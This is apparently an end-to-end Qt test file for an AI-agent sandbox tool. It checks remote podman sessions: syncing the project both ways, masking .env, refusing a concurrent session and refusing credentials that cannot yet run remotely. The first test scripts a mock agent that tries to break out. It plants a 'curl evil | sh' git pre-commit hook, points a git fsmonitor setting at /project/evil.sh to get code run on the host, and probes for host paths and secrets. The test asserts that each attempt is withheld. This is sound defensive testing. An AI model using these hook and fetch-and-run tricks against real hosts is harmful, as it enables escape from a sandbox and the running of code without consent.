// SPDX-License-Identifier: GPL-3.0-or-later
// A whole session on a remote podman service (issue 17, docs/design/remote-sessions.md), through
// the command line (`ai-sandbox --url unix://... run -C PROJECT -- sh -c ...`), against a podman
// service that cannot see this machine's files (tests/common/remotepodman.h), rootful and rootless:
//  - the project is synced into its volume there before the sandbox starts, the sandbox works on
//    it, and the final sync brings back what the agent wrote; a .git/hooks file it wrote is not
//    brought back (withheld, kept aside in the session folder); every sync is a session event
//    (`ai-sandbox logs --json`);
//  - the host path of the project is never bound there (the service has no such folder: a bind
//    would fail, and the agent sees the synced copy);
//  - a session stopped while the agent runs (SIGTERM) still brings back what it wrote; a second
//    session of the project on the same service meanwhile is refused;
//  - what cannot run remotely yet ([[credentials]]: the gate there does not add them) is refused
//    before anything is made there.
// Figures: the session's wall time locally and remotely, and the final sync's time.
#include "remoterows.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>
#include <memory>
#include <signal.h>
#include <unistd.h>

using namespace aisb;
using aisb::test::E2eResult;
using aisb::test::E2eSandbox;
using aisb::test::RemotePodmanService;
using aisb::test::RemoteRows;

namespace {
const QByteArray nonePolicy = "[image]\nharness = \"shell\"\n[network]\nmode = \"none\"\n";
// Allowlist runs remotely (tst_remote_gate.cpp); its [[credentials]] do not yet.
const QByteArray credentialsPolicy =
    "[image]\nharness = \"shell\"\n[network]\nmode = \"allowlist\"\nallow = [\"api.example.com\"]\n"
    "\n[[credentials]]\nname = \"e2e-remote\"\nhost = \"api.example.com\"\nheader = \"Authorization\"\n"
    "format = \"Bearer {value}\"\nsource = \"command:echo never-read\"\nenv = [\"E2E_API_KEY\"]\n";
} // namespace

class TestRemoteSession : public QObject
{
    Q_OBJECT
    RemoteRows m_remote;

    E2eSandbox *sandbox() const { return &m_remote.env(); }
    RemotePodmanService *service() const { return m_remote.service(); }
    static QString rowName(const QString &name) { return RemoteRows::rowName(name); }

    // The events of the project's newest session (events.jsonl), one object a line.
    QList<QJsonObject> lastSessionEvents() const
    {
        QDir dir(sandbox()->sessionsDir());
        const QStringList sessions = dir.entryList(QDir::Dirs | QDir::NoDotAndDotDot, QDir::Time);
        QList<QJsonObject> out;
        if (sessions.isEmpty())
            return out;
        const QList<QByteArray> lines =
            aisb::test::readOrMissing(dir.filePath(sessions.first() + QStringLiteral("/events.jsonl")))
                .split('\n');
        for (const QByteArray &line : lines)
            if (!line.trimmed().isEmpty())
                out << QJsonDocument::fromJson(line).object();
        return out;
    }

    QStringList serviceContainersOf(const QString &project) const
    {
        return m_remote.serviceContainersOf(project);
    }

private Q_SLOTS:
    void initTestCase()
    {
        const QString failed = m_remote.setUp(nonePolicy);
        QVERIFY2(failed.isEmpty(), qPrintable(failed));
    }

    void cleanupTestCase() { m_remote.reset(); }

    void sessionSyncsBothWays_data() { RemoteRows::addRows(); }
    void sessionSyncsBothWays()
    {
        REMOTE_ROW(m_remote);
        const QString project = sandbox()->makeProject(
            rowName(QStringLiteral("remote-run")), nonePolicy,
            {{QStringLiteral("README.md"), QByteArrayLiteral("from this machine\n")},
             {QStringLiteral(".git/config"), QByteArrayLiteral("[core]\n\tbare = false\n")},
             {QStringLiteral(".env"), QByteArrayLiteral("SECRET=never-sent\n")}});
        // What the agent does: reads the project, writes a file, plants a hook, looks for this
        // machine's path and for the masked .env.
        const QString script =
            QStringLiteral(
                "cat /project/README.md; echo agent-wrote > /project/out.txt; "
                // The next try: the parent of the read-only .git/config renamed away, a new .git
                // with a config of the agent's (an fsmonitor runs on the host's next git status).
                "mv /project/.git /project/.git-moved 2>/dev/null; mkdir -p /project/.git; "
                "printf '[core]\\n\\tfsmonitor = /project/evil.sh\\n' > /project/.git/config 2>/dev/null; "
                "mkdir -p /project/.git/hooks && echo 'curl evil | sh' > /project/.git/hooks/pre-commit "
                "&& chmod +x /project/.git/hooks/pre-commit; "
                "if [ -e %1 ]; then echo host-path-visible; fi; "
                "if [ -s /project/.env ]; then echo env-visible; fi; echo done")
                .arg(project);
        QElapsedTimer t;
        t.start();
        const E2eResult r =
            sandbox()->cli({QStringLiteral("--url"), service()->url(), QStringLiteral("run"),
                            QStringLiteral("--no-tty"), QStringLiteral("-C"), project, QStringLiteral("--"),
                            QStringLiteral("sh"), QStringLiteral("-c"), script},
                           {}, 300000);
        const qint64 remoteMs = t.elapsed();
        QVERIFY2(r.exitCode == 0, r.describe().constData());
        QVERIFY2(r.out.contains("from this machine"), r.describe().constData()); // the project was sent
        QVERIFY2(r.out.contains("done"), r.describe().constData());
        QVERIFY2(!r.out.contains("host-path-visible"), r.describe().constData());
        QVERIFY2(!r.out.contains("env-visible"), r.describe().constData()); // masked: never sent

        // What the agent wrote came back; the hook it planted did not.
        QByteArray eventsText;
        for (const QJsonObject &e : lastSessionEvents())
            eventsText += QJsonDocument(e).toJson(QJsonDocument::Compact) + '\n';
        QVERIFY2(aisb::test::readOrMissing(project + QStringLiteral("/out.txt")) == "agent-wrote\n",
                 QByteArray(r.describe() + "\n--- events\n" + eventsText).constData());
        QVERIFY(!QFileInfo::exists(project + QStringLiteral("/.git/hooks/pre-commit")));
        QCOMPARE(aisb::test::readOrMissing(project + QStringLiteral("/.git/config")),
                 QByteArray("[core]\n\tbare = false\n"));
        QCOMPARE(aisb::test::readOrMissing(project + QStringLiteral("/README.md")),
                 QByteArray("from this machine\n"));
        QCOMPARE(aisb::test::readOrMissing(project + QStringLiteral("/.env")),
                 QByteArray("SECRET=never-sent\n"));

        // The syncs are session events: the one before the launch sent the project, the final
        // one brought out.txt back and withheld the hook.
        const QList<QJsonObject> events = lastSessionEvents();
        QJsonObject first, final;
        for (const QJsonObject &e : events) {
            const QJsonObject &d = e; // the event's data are beside its kind and message
            if (d.value(QStringLiteral("sync")) == QLatin1String("start"))
                first = d;
            else if (d.value(QStringLiteral("sync")) == QLatin1String("final") &&
                     d.contains(QStringLiteral("ms")))
                final = d;
        }
        QVERIFY2(!first.isEmpty(), "no sync event before the launch");
        QVERIFY2(!final.isEmpty(), "no final sync event");
        QVERIFY(first.value(QStringLiteral("sent")).toArray().contains(QStringLiteral("README.md")));
        QVERIFY(!first.value(QStringLiteral("sent")).toArray().contains(QStringLiteral(".env")));
        QVERIFY(final.value(QStringLiteral("brought_back")).toArray().contains(QStringLiteral("out.txt")));
        bool hookWithheld = false;
        for (const QJsonValue &w : final.value(QStringLiteral("withheld")).toArray())
            hookWithheld =
                hookWithheld ||
                w.toObject().value(QStringLiteral("path")).toString().startsWith(QLatin1String(".git/hooks"));
        QVERIFY2(hookWithheld, QJsonDocument(final).toJson().constData());
        QCOMPARE(final.value(QStringLiteral("direction")).toString(), QStringLiteral("from-remote"));

        // `ai-sandbox logs` shows them as it shows any session event.
        const E2eResult logs = sandbox()->cli({QStringLiteral("logs"), QStringLiteral("-C"), project});
        QVERIFY2(logs.out.contains("Final sync"), logs.describe().constData());

        // The project's volume is labelled as ours (`clean` against the service finds it).
        const auto labels = service()->remote(
            {QStringLiteral("volume"), QStringLiteral("inspect"), QStringLiteral("--format"),
             QStringLiteral("{{index .Labels \"io.aisb.kind\"}} {{index .Labels \"io.aisb.project\"}}"),
             QStringLiteral("aisb-rproj-") + projectSlug(project)});
        QCOMPARE(QString::fromUtf8(labels.out).trimmed(),
                 QStringLiteral("remote-project ") + projectSlug(project));

        // Nothing of the session is left on the service but the project's volume.
        QVERIFY2(serviceContainersOf(project).isEmpty(), qPrintable(serviceContainersOf(project).join(u' ')));

        // A second session starts from the synced state: only what changed moves.
        QFile::remove(project + QStringLiteral("/out.txt"));
        t.restart();
        const E2eResult again =
            sandbox()->cli({QStringLiteral("--url"), service()->url(), QStringLiteral("run"),
                            QStringLiteral("--no-tty"), QStringLiteral("-C"), project, QStringLiteral("--"),
                            QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("ls /project")},
                           {}, 300000);
        const qint64 secondMs = t.elapsed();
        QVERIFY2(again.exitCode == 0, again.describe().constData());
        QVERIFY2(!again.out.contains("out.txt"), again.describe().constData()); // removed there too
        QVERIFY(!QFileInfo::exists(project + QStringLiteral("/out.txt")));

        // The same command locally, for the figures.
        t.restart();
        const E2eResult local = sandbox()->cli(
            {QStringLiteral("run"), QStringLiteral("--no-tty"), QStringLiteral("-C"), project,
             QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("ls /project")},
            {}, 300000);
        const qint64 localMs = t.elapsed();
        QVERIFY2(local.exitCode == 0, local.describe().constData());
        qInfo("%s service: session wall time: local %lld ms; remote %lld ms (first, with the project's first "
              "send), %lld ms "
              "(second); the first session's final sync %lld ms, its first sync %lld ms",
              QTest::currentDataTag(), localMs, remoteMs, secondMs,
              qint64(final.value(QStringLiteral("ms")).toDouble()),
              qint64(first.value(QStringLiteral("ms")).toDouble()));
    }

    // Stopped (SIGTERM to the command line) while the agent runs: the final sync still brings back
    // what it wrote.
    void stopBringsBackWork_data() { RemoteRows::addRows(); }
    void stopBringsBackWork()
    {
        REMOTE_ROW(m_remote);
        const QString project =
            sandbox()->makeProject(rowName(QStringLiteral("remote-stop")), nonePolicy,
                                   {{QStringLiteral("README.md"), QByteArrayLiteral("x\n")}});
        std::unique_ptr<QProcess> p(sandbox()->startCli(
            {QStringLiteral("--url"), service()->url(), QStringLiteral("run"), QStringLiteral("--no-tty"),
             QStringLiteral("-C"), project, QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"),
             QStringLiteral("echo partial > /project/partial.txt && exec sleep 1019")}));
        // The sandbox runs there and the file is written (looked at in the sandbox itself).
        QString written;
        QVERIFY2(E2eSandbox::waitFor(
                     [&] {
                         const QStringList names = serviceContainersOf(project);
                         if (names.size() == 1)
                             written = QString::fromUtf8(
                                 service()
                                     ->remote({QStringLiteral("exec"), names.first(), QStringLiteral("cat"),
                                               QStringLiteral("/project/partial.txt")})
                                     .out);
                         return written == QLatin1String("partial\n") || p->state() == QProcess::NotRunning;
                     },
                     120000),
                 p->readAllStandardError().constData());
        QCOMPARE(written, QStringLiteral("partial\n"));
        QVERIFY(!QFileInfo::exists(project + QStringLiteral("/partial.txt"))); // not here before the sync
        // A second session of the project on the same service meanwhile would sync the same volume:
        // refused, and the first is untouched.
        const E2eResult second = sandbox()->cli(
            {QStringLiteral("--url"), service()->url(), QStringLiteral("run"), QStringLiteral("--no-tty"),
             QStringLiteral("-C"), project, QStringLiteral("--"), QStringLiteral("true")},
            {}, 120000);
        QVERIFY2(second.exitCode != 0 && second.err.contains("Another session of this project"),
                 second.describe().constData());
        QCOMPARE(serviceContainersOf(project).size(), 1);
        QElapsedTimer clock;
        clock.start();
        QCOMPARE(::kill(pid_t(p->processId()), SIGTERM), 0);
        QVERIFY(E2eSandbox::waitFor([&] { return p->state() == QProcess::NotRunning; }, 120000));
        qInfo("%s service: SIGTERM to the end of the session (with the final sync) %lld ms",
              QTest::currentDataTag(), clock.elapsed());
        QVERIFY(p->exitCode() != 0);
        QCOMPARE(aisb::test::readOrMissing(project + QStringLiteral("/partial.txt")),
                 QByteArray("partial\n"));
        QVERIFY2(serviceContainersOf(project).isEmpty(), qPrintable(serviceContainersOf(project).join(u' ')));
    }

    void refusesWhatCannotRunRemotely_data() { RemoteRows::addRows(); }
    void refusesWhatCannotRunRemotely()
    {
        REMOTE_ROW(m_remote);
        const QString project =
            sandbox()->makeProject(rowName(QStringLiteral("remote-credentials")), credentialsPolicy);
        const E2eResult r = sandbox()->cli({QStringLiteral("--url"), service()->url(), QStringLiteral("run"),
                                            QStringLiteral("--no-tty"), QStringLiteral("-C"), project,
                                            QStringLiteral("--"), QStringLiteral("true")},
                                           {}, 300000);
        QVERIFY2(r.exitCode != 0, r.describe().constData());
        QVERIFY2(r.err.contains("credentials[0] (e2e-remote)") && r.err.contains("remote"),
                 r.describe().constData());
        QVERIFY(serviceContainersOf(project).isEmpty());
        const auto volumes = service()->remote({QStringLiteral("volume"), QStringLiteral("ls"),
                                                QStringLiteral("--format"), QStringLiteral("{{.Name}}")});
        QVERIFY2(!volumes.out.contains(projectSlug(project).toUtf8()), volumes.out.constData());
    }
};

QTEST_GUILESS_MAIN(TestRemoteSession)
#include "tst_remote_session.moc"
